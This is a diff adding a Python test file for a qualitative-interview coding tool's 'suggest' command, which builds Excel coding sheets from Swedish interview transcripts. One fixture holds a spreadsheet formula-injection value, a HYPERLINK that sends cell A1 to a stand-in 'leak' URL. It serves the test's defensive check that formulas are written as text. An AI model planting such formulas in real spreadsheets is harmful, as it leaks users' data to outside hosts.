@@ -1,0 +1,240 @@
+"""``codingkit suggest`` (issue 13): the turns to hand-code next, the coding
+sheet, and learning from it once filled in."""
+
+from __future__ import annotations
+
+import json
+import math
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from codingkit import read_transcripts
+from codingkit.cli import cli
+from codingkit.coding.bundled import bundled_coder
+from codingkit.coding.features import MIN_CONTENT_WORDS
+from codingkit.evaluation import read_human_coding
+from codingkit.segmenting import segment
+from codingkit.suggest import CONTEXT_COLUMNS, SHEET_NAME, segment_scores, suggest
+
+ROOT = Path(__file__).resolve().parents[2]
+SAMPLE = ROOT / "transcripts"
+THEMES = ["tidig_dialog", "behov", "kommersialisering", "forfarande", "risk_regelverk",
+          "forankring", "samverkan", "resurser", "larande", "effekter"]
+
+REPEATED = ("Vi bjöd in leverantörerna till en dialogträff innan vi skrev underlaget, "
+            "för vi ville höra vad marknaden kunde erbjuda och vad som var möjligt.")
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"klicka") om budgeten för projektet'
+
+
+def _interview(k: int) -> str:
+    return f"""Projekt: Testprojekt
+Omgång: {k}
+Roll: {"upphandlare" if k % 2 else "leverantör"}
+
+I: Hur började ni?
+IP: {REPEATED}
+I: Mm.
+IP: Ja, precis.
+I: Hur gick det med pengarna?
+IP: {FORMULA if k == 1 else "Vi sökte pengar från Vinnova men fick nej, så budgeten räckte inte till allt vi ville göra i projektet."}
+I: Vad lärde ni er?
+IP: Att personalen måste vara med från början, annars fungerar ingenting när tekniken väl kommer ut i verksamheten nummer {k}.
+I: Tack.
+IP: Tack själv.
+"""
+
+
+@pytest.fixture(scope="module")
+def tiny(tmp_path_factory) -> Path:
+    folder = tmp_path_factory.mktemp("tiny") / "intervjuer"
+    folder.mkdir()
+    for k in (1, 2, 3):
+        (folder / f"intervju_{k}.txt").write_text(_interview(k), encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def sample_sheet(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("suggest") / "granska.xlsx"
+    res = CliRunner().invoke(cli, ["suggest", str(SAMPLE), "--n", "30", "--out", str(out)],
+                             catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert "Chose 30 turns" in res.output
+    return out
+
+
+def _rows(path: Path) -> tuple[list[str], list[list]]:
+    ws = openpyxl.load_workbook(path)[SHEET_NAME]
+    rows = [[c.value for c in r] for r in ws.iter_rows()]
+    return rows[0], rows[1:]
+
+
+def test_sheet_has_n_distinct_turns_spread_over_interviews(sample_sheet):
+    header, rows = _rows(sample_sheet)
+    assert header == [*CONTEXT_COLUMNS, *THEMES, "comment"]
+    assert len(rows) == 30
+    keys = [(r[0], r[1]) for r in rows]
+    assert len(set(keys)) == 30
+    per_source = {}
+    for src, _ in keys:
+        per_source[src] = per_source.get(src, 0) + 1
+    interviews = len({t.source for t in read_transcripts(SAMPLE)})
+    assert len(per_source) >= interviews - 2  # spread: nearly every interview
+    assert max(per_source.values()) <= math.ceil(30 / (interviews - 1))
+    assert len({r[4] for r in rows}) >= 4  # roles
+    # each row: a respondent turn of its transcript, with the question before it
+    segs = {(s.source, s.turn): s for s in segment(read_transcripts(SAMPLE), "turn")}
+    for r in rows:
+        seg = segs[(r[0], r[1])]
+        assert seg.speaker_role == "respondent" and seg.text == r[6]
+        question = segs[(r[0], r[1] - 1)]  # the interviewer's turn before it
+        assert question.speaker_role == "interviewer" and question.text == r[5]
+        assert all(v is None for v in r[len(CONTEXT_COLUMNS):])  # left for the researcher
+
+
+def test_sheet_has_validation_frozen_header_and_guesses(sample_sheet):
+    book = openpyxl.load_workbook(sample_sheet)
+    assert book.sheetnames == [SHEET_NAME, "Instruktioner"]
+    ws = book[SHEET_NAME]
+    assert ws.freeze_panes == "C2"
+    (dv,) = ws.data_validations.dataValidation
+    assert dv.type == "list" and dv.formula1 == '"0,1"'
+    assert str(dv.sqref) == "I2:R31"
+    assert ws.column_dimensions["G"].width == 80
+    instructions = " ".join(str(c.value) for row in book["Instruktioner"].iter_rows()
+                            for c in row if c.value)
+    assert "Skriv 1" in instructions and "behov" in instructions
+    assert "apply intervjuer/ --learn-from granska.xlsx" in instructions
+    assert "evaluate intervjuer/ --gold granska.xlsx" in instructions
+    # the guess is what apply's coder codes the turn with
+    coder = bundled_coder()
+    result = coder.code(read_transcripts(SAMPLE))
+    themes = {}
+    for c in result.coding_list:
+        themes.setdefault(c.segment_id, set()).add(c.theme)
+    for row in ws.iter_rows(min_row=2, values_only=True):
+        guess = {t for t in (row[7] or "").split(", ") if t}
+        assert guess == themes.get(f"{row[0]}:{row[1]}", set())
+
+
+def test_scores_agree_with_the_coders_decisions():
+    coder = bundled_coder()
+    transcripts = read_transcripts(SAMPLE / "syd")
+    result = coder.code(transcripts)
+    todo = [s for s in result.segment_list if s.speaker_role == "respondent"]
+    scores, content = segment_scores(coder, result.segment_list, todo)
+    codes = list(coder.codebook_.codes)
+    coded = {(c.segment_id, c.code) for c in result.coding_list}
+    for i, s in enumerate(todo):
+        if content[i] < MIN_CONTENT_WORDS:
+            continue
+        for j, code in enumerate(codes):
+            if coder.codebook_[code].parent is None:
+                assert (scores[i, j] >= 0.5) == ((s.segment_id, code) in coded), (s, code)
+
+
+def test_no_near_duplicates_no_content_free_turns_and_formulas_are_text(tiny, tmp_path):
+    chosen = suggest(read_transcripts(tiny), bundled_coder(), n=50)
+    table = chosen.table
+    texts = list(table["text"])
+    assert texts.count(REPEATED) == 1  # the same answer in three interviews: once
+    assert not {"Ja, precis.", "Tack själv."} & set(texts)
+    assert FORMULA in texts
+    # the repeated answer once; the pengar answers: the formula and one of the
+    # two identical others; the lärde answers differ by a number: once
+    assert len(table) == 4
+    out = tmp_path / "g.xlsx"
+    res = CliRunner().invoke(cli, ["suggest", str(tiny), "--n", "50", "--out", str(out)],
+                             catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    with zipfile.ZipFile(out) as zf:
+        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
+    ws = openpyxl.load_workbook(out)[SHEET_NAME]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def _fill(sheet: Path, out: Path, marks: dict[int, dict[str, object]]) -> list[tuple]:
+    """Fill rows (2-based row → theme → value) of a sheet; the (source, turn) of each row."""
+    book = openpyxl.load_workbook(sheet)
+    ws = book[SHEET_NAME]
+    header = [c.value for c in ws[1]]
+    for r, values in marks.items():
+        for theme, v in values.items():
+            ws.cell(row=r, column=header.index(theme) + 1).value = v
+    book.save(out)
+    return [(ws.cell(row=r, column=1).value, ws.cell(row=r, column=2).value)
+            for r in range(1, ws.max_row + 1)]
+
+
+def test_filled_sheet_reads_back_as_turn_coding(sample_sheet, tmp_path):
+    filled = tmp_path / "ifylld.xlsx"
+    keys = _fill(sample_sheet, filled, {
+        2: {"behov": 1, "forfarande": 1},        # two themes, the rest empty (= 0)
+        3: {"larande": "1", "effekter": "0"},   # text cells as Excel may keep them
+        4: {"behov": 0},                       # read, about no theme
+        5: {"samverkan": 1.0, "resurser": 0},
+        # row 6 onwards: empty, not read
+    })
+    human = read_human_coding(filled)
+    assert human.kind == "turn"
+    got = sorted(zip(human.codings["source"], human.codings["turn"], human.codings["code"]))
+    want = sorted([(*keys[1], "behov"), (*keys[1], "forfarande"), (*keys[2], "larande"),
+                   (*keys[4], "samverkan")])
+    assert got == want
+    assert sorted(zip(human.turns["source"], human.turns["turn"])) == sorted(keys[1:5])
+    assert human.paths == [filled]
+
+
+def test_apply_and_evaluate_learn_from_a_filled_sheet(tiny, tmp_path):
+    sheet = tmp_path / "granska.xlsx"
+    runner = CliRunner()
+    res = runner.invoke(cli, ["suggest", str(tiny), "--out", str(sheet)],
+                        catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    _, rows = _rows(sheet)
+    marks = {}
+    for r, row in enumerate(rows, start=2):  # a researcher who codes every turn
+        marks[r] = {t: int(t in ("resurser", "larande") and r % 2 == 0) for t in THEMES}
+        marks[r]["behov"] = 1
+    filled = tmp_path / "ifylld.xlsx"
+    _fill(sheet, filled, marks)
+    out = tmp_path / "resultat"
+    model = tmp_path / "kodare.ckm"
+    res = runner.invoke(cli, ["apply", str(tiny), "--learn-from", str(filled),
+                              "--min-positives", "1", "--save-model", str(model),
+                              "--out", str(out), "-q"], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert "what it learned from the human coding" in res.output
+    # the next round: chosen by what the coder learned, the coded turns left out
+    again = tmp_path / "granska2.xlsx"
+    res = runner.invoke(cli, ["suggest", str(tiny), "--model", str(model), "--exclude",
+                              str(filled), "--out", str(again)], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert "Chose 0 turns" in res.output  # all 4 turns coded
+    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["options"]["learned_from"]["files"][0]["path"] == str(filled)
+    res = runner.invoke(cli, ["evaluate", "--gold", str(filled), "--pred", str(out)],
+                        catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert f"{len(rows)} turns" in res.output
+
+
+def test_exclude_skips_turns_already_coded(tiny, tmp_path):
+    first = tmp_path / "omg1.xlsx"
+    runner = CliRunner()
+    assert runner.invoke(cli, ["suggest", str(tiny), "--n", "2", "--out", str(first)],
+                         catch_exceptions=False).exit_code == 0
+    keys = _fill(first, first, {2: {"behov": 1}, 3: {"behov": 0}})[1:3]
+    second = tmp_path / "omg2.xlsx"
+    res = runner.invoke(cli, ["suggest", str(tiny), "--n", "50", "--exclude", str(first),
+                              "--out", str(second)], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    _, rows = _rows(second)
+    assert not set(keys) & {(r[0], r[1]) for r in rows}
+    # the tiny corpus offers 4 turns (see above), 2 coded before
+    assert len(rows) == 2
